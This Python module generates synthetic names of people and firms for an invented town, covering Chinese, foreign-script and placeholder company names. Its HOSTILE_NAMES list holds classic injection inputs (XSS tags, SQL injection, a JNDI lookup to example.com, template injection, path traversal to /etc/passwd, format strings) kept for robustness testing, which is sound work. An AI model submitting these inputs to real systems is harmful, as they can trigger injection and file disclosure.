"""Names: what the people and firms of the invented town are called, ordinary, foreign and hostile."""

from dataclasses import dataclass
from random import Random
from typing import Final

_SURNAMES = (
    "王李张刘陈杨黄赵吴周徐孙马朱胡郭何林高罗郑梁谢宋唐许韩邓冯曹彭曾萧田董潘袁蔡蒋余于杜叶程魏苏吕丁任卢姚沈钟姜崔谭陆范汪廖石金韦贾夏"
    "傅方邹熊白孟秦邱侯江尹薛闫段雷龙黎史陶贺毛郝顾龚邵万覃武钱戴严莫孔向常汤"
)
_COMPOUND_SURNAMES = "欧阳 司马 上官 诸葛 东方 皇甫 尉迟 公孙 慕容 令狐 宇文 司徒 轩辕 端木 百里 呼延".split()
_GIVEN_MEN = "伟强磊军洋勇杰涛明超平刚鹏辉健亮峰龙浩宇轩博文昊天泽瑞晨阳志远建国立诚嘉俊子睿家豪思源"
_GIVEN_WOMEN = "芳娜敏静秀丽艳娟霞燕玲婷雪梅琳慧颖洁莉倩怡欣妍雨桐梓涵诗琪梦瑶佳思语嫣晓雯若曦美兰春"
_DOTTED_FIRST = "阿依古丽 买买提 艾力 古丽娜 吐尔逊 玛依拉 尼古拉 安东尼 叶卡捷琳娜 扎西".split()
_DOTTED_LAST = "热合曼 艾合买提 赛买提 库尔班 阿布都拉 赵四 马丁内斯 顿珠".split()
_TRADITIONAL_SURNAMES = "陳 黃 張 劉 楊 趙 吳 鄭 謝 許 鄧 馮 歐陽 司馬 諸葛".split()
_TRADITIONAL_GIVEN = "志明 美玲 俊傑 淑芬 家豪 雅婷 嘉欣 國榮 詠詩 建華 慧儀 子軒".split()

_LATIN_FIRST = (
    "Anna Jean-Luc Maria José Zoë Søren Björn Siobhán Łukasz Nguyễn Olu Priya Ivana François Mary-Kate Xu "
    "Dr.Hans Aoife João Ana"
).split()
_LATIN_LAST = (
    "Kowalska O'Neill Müller García Smith D’Angelo Åberg Dvořák van-Dijk Okafor Iyer MacDonald Nováková Li "
    "St.John Çelik Ferreira Í"
).split()
_OTHER_SCRIPTS = (
    "ليلى حداد",
    "محمد عبد الرحمن",
    "فاطمه رضایی",
    "דוד כהן",
    "נועה לוי",
    "Анна Соколова",
    "Пётр Иванович Лебедев",
    "山田 花子",
    "タナカ ケンジ",
    "김민수",
    "Ελένη Παπαδοπούλου",
    "สมชาย ใจดี",
    "राहुल शर्मा",
    "Նարե Սարգսյան",
)

# Names that people try systems with; each is ordinary text and has to come out as it went in.
HOSTILE_NAMES: Final = (
    "<script>alert('town')</script>",
    "Robert'); DROP TABLE subject;--",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://example.com","name")',
    "${jndi:ldap://example.com/a}",
    "{{7*7}} {% raw %}",
    "../../etc/passwd",
    "小明😀👨‍👩‍👧",
    "null",
    "' OR '1'='1",
    "%s%n%x",
    "Ｆｕｌｌ　Ｗｉｄｔｈ",
    "Z̷̢͓a̸͚͑l̵̡͝g̶̺̈o̴̜͊",
    "﷽",
    "𠀀𠮷",
    "ß" * 100,
)

_BRANDS_FIRST = "云 青 海 星 晨 远 禾 鹿 松 岚 湖 雁 虹 川 苇 橙 梧 岭 汀 枫".split()
_BRANDS_LAST = "雀 禾 帆 程 野 舟 麦 达 谷 润 桥 途 林 序 石 禧 桐 舍 屿 杉".split()
_TRADES = {
    "manufacturing": "机械制造 电子科技 包装材料 五金制品".split(),
    "wholesale": "商贸 进出口贸易 建材批发".split(),
    "retail": "百货 超市连锁 文具".split(),
    "e_commerce": "电子商务 网络科技".split(),
    "agriculture": "农产品 茶业 果蔬种植".split(),
    "construction": "建筑工程 装饰工程".split(),
    "transport": "运输 冷链物流".split(),
    "services": "信息咨询 文化传媒 家政服务".split(),
}
_SHOPS = "便利店 小吃店 服装店 水果行 五金店 花店 茶庄 修理部".split()
_FOREIGN_FIRMS = (
    "Nordlicht Beispiel GmbH & Co. KG",
    "Société Exemple «Étoile» S.A.R.L.",
    "Przykład Sp. z o.o.",
    "Esempio & Figli S.p.A.",
    "Example Freight Ltd.",
    "株式会社サンプル商事",
)


@dataclass(frozen=True, slots=True)
class Firm:
    """What a firm is called and what it trades in."""

    name: str
    trade: str


def mainland(chance: Random, *, man: bool) -> str:
    """Name a person of the mainland; most have a given name of two letters, some of one."""
    given = _GIVEN_MEN if man else _GIVEN_WOMEN
    surname = chance.choice(_SURNAMES)
    return surname + "".join(chance.choice(given) for _ in range(chance.choices((1, 2), (15, 85))[0]))


def compound(chance: Random, *, man: bool) -> str:
    """Name a person whose surname has two letters."""
    given = _GIVEN_MEN if man else _GIVEN_WOMEN
    letters = chance.choices((1, 2), (40, 60))[0]
    return chance.choice(_COMPOUND_SURNAMES) + "".join(chance.choice(given) for _ in range(letters))


def single(chance: Random, *, man: bool) -> str:
    """Name a person by one letter alone; some papers hold no more."""
    return chance.choice(_GIVEN_MEN if man else _GIVEN_WOMEN)


def dotted(chance: Random) -> str:
    """Name a person of a people whose names are written with a dot."""
    return f"{chance.choice(_DOTTED_FIRST)}·{chance.choice(_DOTTED_LAST)}"


def traditional(chance: Random) -> str:
    """Name a person of Hong Kong, Macao or Taiwan."""
    return chance.choice(_TRADITIONAL_SURNAMES) + chance.choice(_TRADITIONAL_GIVEN)


def latin(chance: Random) -> str:
    """Name a foreigner in Latin letters, with all that stands on and between them."""
    middle = f" {chance.choice(_LATIN_FIRST)[0]}." if chance.random() < 0.15 else ""
    return f"{chance.choice(_LATIN_FIRST)}{middle} {chance.choice(_LATIN_LAST)}"


def other_script(chance: Random) -> str:
    """Name a foreigner in another script; some read from right to left."""
    return chance.choice(_OTHER_SCRIPTS)


def firm(chance: Random, city: str) -> Firm:
    """Name a company after its city, a made brand and its trade; 示例 says that there is none such."""
    trade = chance.choice(sorted(_TRADES))
    brand = chance.choice(_BRANDS_FIRST) + chance.choice(_BRANDS_LAST)
    form = chance.choices(("有限公司", "股份有限公司", "有限责任公司"), (80, 8, 12))[0]
    return Firm(f"{city}{brand}示例{chance.choice(_TRADES[trade])}{form}", trade)


def shop(chance: Random, district: str, owner: str) -> Firm:
    """Name a sole trader's shop; one in three carries its owner's name, as many do."""
    brand = owner if chance.random() < 0.33 else chance.choice(_BRANDS_FIRST) + chance.choice(_BRANDS_LAST)
    return Firm(f"{district}{brand}示例{chance.choice(_SHOPS)}", chance.choice(("retail", "services")))


def foreign_firm(chance: Random) -> Firm:
    """Name a firm from abroad."""
    return Firm(chance.choice(_FOREIGN_FIRMS), chance.choice(("wholesale", "transport", "e_commerce")))
